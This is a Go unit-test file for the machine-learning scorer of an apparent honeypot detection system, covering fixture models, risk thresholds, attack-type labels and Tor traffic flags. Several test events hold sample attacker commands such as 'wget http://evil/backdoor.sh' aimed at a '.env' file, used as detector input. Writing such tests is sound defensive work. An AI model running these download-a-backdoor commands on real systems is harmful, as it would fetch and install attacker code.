package ml

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/hivetrap/sentinel/internal/event"
)

func writeJSONFile(t *testing.T, dir, name string, v any) {
	t.Helper()
	data, err := json.Marshal(v)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), data, 0o644))
}

// writeFixtureBundle exports a deterministic miniature model set:
//   - an attack classifier stump on sbytes (small = benign, large = attack)
//   - an isolation forest whose decision score is exactly zero
//   - a traffic classifier keyed on the Tor/VPN user agent indicator
func writeFixtureBundle(t *testing.T, dir string) {
	t.Helper()

	writeJSONFile(t, dir, rfInfoFile, map[string]any{"accuracy": 0.95})
	writeJSONFile(t, dir, rfColumnsFile, []string{"dur", "sbytes"})
	writeJSONFile(t, dir, rfModelFile, map[string]any{
		"n_classes": 2,
		"trees": []map[string]any{{
			"nodes": []map[string]any{
				{"feature": 1, "threshold": 500.0, "left": 1, "right": 2},
				{"feature": -1, "value": []float64{9, 1}},
				{"feature": -1, "value": []float64{1, 9}},
			},
		}},
	})

	writeJSONFile(t, dir, ifInfoFile, map[string]any{
		"accuracy":        0.61,
		"feature_columns": []string{"dur", "sbytes"},
	})
	writeJSONFile(t, dir, ifModelFile, map[string]any{
		"max_samples": 2,
		"offset":      -0.5,
		"trees": []map[string]any{{
			"nodes": []map[string]any{{"feature": -1, "size": 2}},
		}},
	})

	writeJSONFile(t, dir, darknetInfoFile, map[string]any{"accuracy": 0.95})
	writeJSONFile(t, dir, darknetModelFile, map[string]any{
		"n_classes": 4,
		"trees": []map[string]any{{
			"nodes": []map[string]any{
				{"feature": 9, "threshold": 0.5, "left": 1, "right": 2},
				{"feature": -1, "value": []float64{1, 0, 0, 0}},
				{"feature": -1, "value": []float64{0, 0, 1, 0}},
			},
		}},
	})
	writeJSONFile(t, dir, darknetEncoderFile, map[string]any{
		"classes": []string{"Non-Tor", "NonVPN", "Tor", "VPN"},
	})
}

func newFixturePredictor(t *testing.T) *Predictor {
	t.Helper()
	dir := t.TempDir()
	writeFixtureBundle(t, dir)
	p := NewPredictor(dir, zap.NewNop().Sugar())
	require.True(t, p.Available())
	return p
}

func TestLoadBundleEmptyDir(t *testing.T) {
	p := NewPredictor(t.TempDir(), zap.NewNop().Sugar())
	assert.False(t, p.Available())
}

func TestLoadBundlePartial(t *testing.T) {
	dir := t.TempDir()
	writeJSONFile(t, dir, darknetInfoFile, map[string]any{"accuracy": 0.9})
	writeJSONFile(t, dir, darknetModelFile, map[string]any{
		"n_classes": 4,
		"trees": []map[string]any{{
			"nodes": []map[string]any{{"feature": -1, "value": []float64{1, 0, 0, 0}}},
		}},
	})

	b := LoadBundle(dir, zap.NewNop().Sugar())
	assert.False(t, b.Empty())
	assert.Nil(t, b.rf)
	assert.Nil(t, b.iso)
	assert.NotNil(t, b.darknet)
}

func TestFallbackPredict(t *testing.T) {
	p := NewPredictor(t.TempDir(), zap.NewNop().Sugar())

	mal := p.Predict(&event.Document{
		Action:  "git_push",
		Payload: map[string]any{"cmd": "wget http://x/a.sh"},
	})
	assert.Equal(t, 0.75, mal.Score)
	assert.Equal(t, event.RiskHigh, mal.RiskLevel)
	assert.Equal(t, 1, mal.IsAnomaly)
	assert.Equal(t, event.AttackUnknown, mal.AttackType)

	benign := p.Predict(&event.Document{
		Action:  "view",
		Payload: map[string]any{"page": "readme"},
	})
	assert.Equal(t, 0.3, benign.Score)
	assert.Equal(t, event.RiskLow, benign.RiskLevel)
	assert.Equal(t, 0, benign.IsAnomaly)
}

func TestPredictBenign(t *testing.T) {
	p := newFixturePredictor(t)

	pred := p.Predict(&event.Document{
		Action:        "view",
		Protocol:      "HTTP",
		TargetService: "Fake Git Repository",
		SessionID:     "s1",
		UserAgent:     "Mozilla/5.0",
		Payload:       map[string]any{"page": "home"},
	})

	// 0.60*0.1 (classifier) + 0.25*0.5 (neutral anomaly) + 0.15*0 (Non-Tor)
	assert.InDelta(t, 0.185, pred.Score, 1e-9)
	assert.Equal(t, event.RiskMinimal, pred.RiskLevel)
	assert.Equal(t, 0, pred.IsAnomaly)
	assert.Equal(t, event.AttackNormal, pred.AttackType)
	assert.Equal(t, event.TrafficNonTor, pred.TrafficType)

	require.NotNil(t, pred.Attack)
	assert.False(t, pred.Attack.IsAttack)
	assert.InDelta(t, 0.1, pred.Attack.Probability, 1e-9)
	require.NotNil(t, pred.Anomaly)
	assert.InDelta(t, 0.5, pred.Anomaly.AnomalyScore, 1e-9)
	require.NotNil(t, pred.Traffic)
	assert.False(t, pred.Traffic.IsSuspicious)
}

func TestPredictEvasionAttack(t *testing.T) {
	p := newFixturePredictor(t)

	target := ".env"
	pred := p.Predict(&event.Document{
		Action:        "git_push",
		Protocol:      "HTTP",
		TargetService: "Fake Git Repository",
		TargetFile:    &target,
		UserAgent:     "tor-browser",
		Payload:       map[string]any{"cmd": "wget http://evil/backdoor.sh"},
	})

	// The boost saturates the score and the Tor verdict labels it evasion
	assert.Equal(t, 1.0, pred.Score)
	assert.Equal(t, event.RiskHigh, pred.RiskLevel)
	assert.Equal(t, 1, pred.IsAnomaly)
	assert.Equal(t, event.AttackEvasion, pred.AttackType)
	assert.Equal(t, event.TrafficTor, pred.TrafficType)

	require.NotNil(t, pred.Traffic)
	assert.True(t, pred.Traffic.IsSuspicious)
	assert.InDelta(t, 1.0, pred.Traffic.SuspicionScore, 1e-9)
}

func TestMaliciousBoost(t *testing.T) {
	target := ".env"
	doc := &event.Document{
		Action:     "git_push",
		TargetFile: &target,
		Payload:    map[string]any{"cmd": "wget http://evil/x"},
		Flow:       map[string]float64{"sbytes": 100},
	}
	boost := maliciousBoost(doc, projectDocument(doc))
	assert.InDelta(t, 0.40+0.30+0.25+0.35, boost, 1e-9)

	clean := &event.Document{Action: "view", Payload: map[string]any{}}
	assert.Equal(t, 0.0, maliciousBoost(clean, projectDocument(clean)))
}

func TestRiskLevelThresholds(t *testing.T) {
	assert.Equal(t, event.RiskHigh, riskLevel(0.6))
	assert.Equal(t, event.RiskMedium, riskLevel(0.59))
	assert.Equal(t, event.RiskMedium, riskLevel(0.4))
	assert.Equal(t, event.RiskLow, riskLevel(0.39))
	assert.Equal(t, event.RiskLow, riskLevel(0.2))
	assert.Equal(t, event.RiskMinimal, riskLevel(0.19))
}

func TestAttackTypeLadder(t *testing.T) {
	proj := func(action, file string) docStrings {
		doc := &event.Document{Action: action}
		if file != "" {
			doc.TargetFile = &file
		}
		return projectDocument(doc)
	}

	assert.Equal(t, event.AttackEvasion,
		attackType(proj("anything", ""), false, false, 0.8, event.TrafficTor))
	assert.Equal(t, event.AttackExploit,
		attackType(proj("git_push", ""), false, false, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackBackdoor,
		attackType(proj("ci_credentials_access", ""), false, false, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackDataExfiltration,
		attackType(proj("download", ".env"), false, false, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackReconnaissance,
		attackType(proj("file_access", "ci.yml"), false, false, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackHighSeverity,
		attackType(proj("other", ""), false, false, 0.65, event.TrafficNonTor))
	assert.Equal(t, event.AttackKnown,
		attackType(proj("other", ""), true, false, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackUnknownAnomaly,
		attackType(proj("other", ""), false, true, 0.1, event.TrafficNonTor))
	assert.Equal(t, event.AttackNormal,
		attackType(proj("other", ""), false, false, 0.1, event.TrafficNonTor))
}

func TestPredictRecoversFromBadModel(t *testing.T) {
	p := newFixturePredictor(t)
	// Truncate the classifier's tree table so inference would index out of a
	// nil distribution; the predictor must degrade, not panic.
	p.bundle.rf.forest.Trees[0].Nodes = p.bundle.rf.forest.Trees[0].Nodes[:1]
	p.bundle.rf.forest.Trees[0].Nodes[0].Left = 99

	pred := p.Predict(&event.Document{Action: "view", Payload: map[string]any{}})
	assert.NotEmpty(t, pred.RiskLevel)
}
